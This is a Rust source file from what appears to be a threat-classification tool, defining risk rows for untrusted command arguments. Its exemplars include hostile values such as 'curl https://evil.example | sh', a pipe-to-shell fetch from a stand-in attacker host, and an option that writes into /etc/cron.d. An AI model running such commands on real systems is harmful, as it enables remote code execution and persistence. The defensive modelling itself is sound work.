//! Lists of words that are a command, or what a program is given.

use crate::risk::Role;
use crate::threat::row::{
    Exemplar::{Text, Words},
    Row,
};
use crate::threat::subject::Subject;

use super::command::ROW;

pub(super) const ROWS: &[Row] = &[
    Row {
        name: "argv.stranger",
        roles: &[Role::Argv],
        asked: has_program,
        exemplars: &[
            Words(&["-c", "curl https://evil.example | sh"]),
            Text("--output=/etc/cron.d/x"),
            Text("x"),
        ],
        says: "may hold any options and operands",
        instead: None,
        ..ROW
    },
    Row {
        name: "argv.stranger",
        roles: &[Role::Argv],
        asked: is_alone,
        exemplars: &[
            Words(&["sh", "-c", "curl https://evil.example | sh"]),
            Words(&["curl", "https://evil.example/x"]),
            Text("sh"),
        ],
        says: "may be any command",
        instead: None,
        ..ROW
    },
];

fn has_program(subject: &Subject<'_, '_>) -> bool {
    subject.siblings(&[Role::Program]).next().is_some()
}

fn is_alone(subject: &Subject<'_, '_>) -> bool {
    !has_program(subject)
}
